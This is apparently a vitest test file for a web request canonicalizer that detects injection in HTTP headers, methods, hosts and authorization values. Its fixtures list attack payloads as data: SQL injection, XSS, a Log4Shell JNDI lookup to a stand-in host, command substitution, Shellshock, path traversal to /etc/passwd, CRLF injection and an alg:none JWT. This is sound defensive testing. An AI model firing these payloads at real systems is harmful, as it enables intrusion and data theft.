import { readFileSync } from 'node:fs';
import { describe, expect, test } from 'vitest';
import { canonical, shown, view } from './requests.js';

const WELL_FORMED: { name: string; value: string }[] = JSON.parse(
  readFileSync(new URL('../../vectors/canonicalize/headers.json', import.meta.url), 'utf8'),
);

const PAYLOADS = [
  "' or 1=1--",
  '"><script>alert(1)</script>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: Log4Shell is written like one
  '${jndi:ldap://evil.test/a}',
  '$(id)',
  '`id`',
  '{{7*7}}',
  '../../etc/passwd',
  '|cat /etc/passwd',
  '%27',
  '\r\nx: y',
  '\x00',
  '\xee\x80\x85',
  '(){ :; }; echo x',
  '%{(#a=1)}',
];

describe('well-formed standard headers', () => {
  test.each(WELL_FORMED)('$name: $value yields no field', ({ name, value }) => {
    expect(shown(canonical({ headers: [[name, value]] }))).toEqual([]);
  });

  const injected = WELL_FORMED.flatMap(({ name, value }) => PAYLOADS.map((payload) => ({ name, value, payload })));
  test.each(injected)('$name: $value with $payload yields a field', ({ name, value, payload }) => {
    for (const text of [payload, value + payload, `${value}, ${payload}`, payload + value]) {
      const fields = canonical({ headers: [[name, text]] }).fields.filter(({ zone }) => zone === 'header');
      expect(fields, text).not.toEqual([]);
      for (const field of fields) expect(field.name).toBe(name);
    }
  });

  test.each(WELL_FORMED)('$name is scored under an odd name', ({ name, value }) => {
    expect(canonical({ headers: [[`${name}'`, value]] }).fields.some(({ zone }) => zone === 'header')).toBe(true);
  });
});

describe('other headers', () => {
  test.each([
    ['x-api-version', '2024.1', []],
    ['x-custom', "it's", ["[HEADER]x-custom[VALUE]it's"]],
    ["x-'", '', ["[HEADER]x-'[VALUE]"]],
    ['', 'x', ['[HEADER][VALUE]x']],
    ['constructor', 'plain', []],
    ['__proto__', 'plain', ['[HEADER]__proto__[VALUE]plain']],
    ['constructor', "it's", ["[HEADER]constructor[VALUE]it's"]],
    ['user-agent', `curl/8.5.0 ${'x'.repeat(600)}`, [`[HEADER]user-agent[VALUE]curl/8.5.0 ${'x'.repeat(600)}`]],
  ] as const)('%s: %s', (name, value, fields) => {
    expect(shown(canonical({ headers: [[name, value]] }))).toEqual(fields);
  });

  test('each duplicate is judged on its own', () => {
    const headers = [
      ['accept', '*/*'],
      ['accept', "'"],
    ] as const;
    expect(shown(canonical({ headers }))).toEqual(["[HEADER]accept[VALUE]'"]);
  });
});

describe('what a standard header has no room for', () => {
  test.each([
    ['user-agent', '1 and (select sleep(5))'],
    ['user-agent', '1 union all (select null,version(),null)'],
    ['user-agent', 'x (select pg_sleep(5)--)'],
    ['user-agent', '1 union select password from users'],
    ['user-agent', 'x/1- (select sleep(5))'],
    ['user-agent', 'Mozilla/5.0 (;cat /etc/passwd;)'],
    ['user-agent', 'x (../../../../windows/win.ini)'],
    ['via', '1.1 proxy (;cat /etc/passwd;)'],
    ['upgrade', '../../../../../../etc/passwd'],
    ['if-none-match', '"../../../../../../etc/passwd"'],
    ['if-none-match', '"/etc/passwd"'],
    ['accept', 'text/html;q="1 union (select sleep(5) from users)"'],
    ['content-type', 'text/plain; a="../../../../../etc/passwd"'],
    ['sec-ch-ua', '"1 union (select 1;2 from users)"'],
  ])('%s: %s', (name, value) => {
    expect(shown(canonical({ headers: [[name, value]] }))).toEqual([`[HEADER]${name}[VALUE]${value}`]);
  });
});

describe('authorization', () => {
  const payload = "ann' or 1=1";
  const basic = btoa(`${payload}:secret'`);
  const part = (text: string) => Buffer.from(text).toString('base64url');
  const user = `[HEADER]authorization.basic[VALUE]${payload}`;
  const malformed = user.replace('[HEADER]', '[HEADER][MALFORMED]');

  test.each([
    ['Bearer eyJhbGciOi.eyJzdWIi.sig_-', []],
    ["Bearer x' or 1=1", ["[HEADER]authorization[VALUE]Bearer x' or 1=1"]],
    ['Bearer ../../../etc/passwd', ['[HEADER]authorization[VALUE]Bearer ../../../etc/passwd']],
    ['Bearer /etc/passwd', ['[HEADER]authorization[VALUE]Bearer /etc/passwd']],
    [`Bearer ${btoa(`${payload} --`)}`, [`[DECODED]authorization[VALUE]${payload} --`]],
    [
      `Bearer ${part('{ "alg":"none"}')}.${part(`{ "sub":"${payload}"}`)}.x`,
      ['[BODY][DEPTH]authorization.alg[VALUE]none', `[BODY][DEPTH]authorization.sub[VALUE]${payload}`],
    ],
    [
      `Bearer ${part('{"alg":"none"}')}.${part(`{"sub":"${payload}`)}.x`,
      ['[BODY][DEPTH]authorization.alg[VALUE]none', `[DECODED]authorization[VALUE]{"sub":"${payload}`],
    ],
    [`Basic ${basic}`, [user]],
    [`Basic\t${basic}`, [user]],
    [`Basic ${basic.slice(0, 12)} ${basic.slice(12)}`, [malformed]],
    [`Basic ${basic}===`, [malformed]],
    [`Basic ${basic}!`, [malformed, '[HEADER][MALFORMED]authorization.basic[VALUE][OPAQUE]==!']],
    ["Basic ann' or 1=1", [expect.anything(), "[HEADER][MALFORMED]authorization.basic[VALUE]ann' or 1=1"]],
    ['Digest username="ann"', ['[HEADER]authorization[VALUE]Digest username="ann"']],
    [
      `Token ${btoa(`${payload} --`)}`,
      ['[HEADER]authorization[VALUE]Token [OPAQUE]=', `[DECODED]authorization[VALUE]${payload} --`],
    ],
  ])('%s', (value, fields) => {
    const read = canonical({ headers: [['authorization', value]] });
    expect(shown(read)).toEqual(fields);
    const known = /^Basic[A-Za-z0-9\s=]*$/.test(value);
    expect(read.uninspected?.get('secret')).toBe(known ? "secret'".length : undefined);
  });
});

describe('the method', () => {
  const long = `${'A'.repeat(41)}'or'1'or'1`;

  test.each([
    ['PROPFIND', []],
    ["GET'or'1", ["[HEADER]method[VALUE]GET'or'1"]],
    [long, [`[HEADER]method[VALUE]${long}`]],
  ])('%s', (method, fields) => {
    const read = canonical({ method });
    expect(shown(read)).toEqual(fields);
    expect(read.bytesInspected).toBe(read.bytesReceived);
  });
});

describe('host', () => {
  test('the host of the pseudo-header is read where there is no other', () => {
    expect(shown(canonical({ host: 'shop.test' }))).toEqual([]);
    expect(shown(canonical({ host: "x'.test" }))).toEqual(["[HEADER]host[VALUE]x'.test"]);
    expect(shown(canonical({ host: "x'.test", headers: [['host', "x'.test"]] }))).toHaveLength(1);
    expect(canonical({ host: 'shop.test' }).bytesReceived).toBe(view({}).target.length + 'hostshop.test'.length);
  });
});
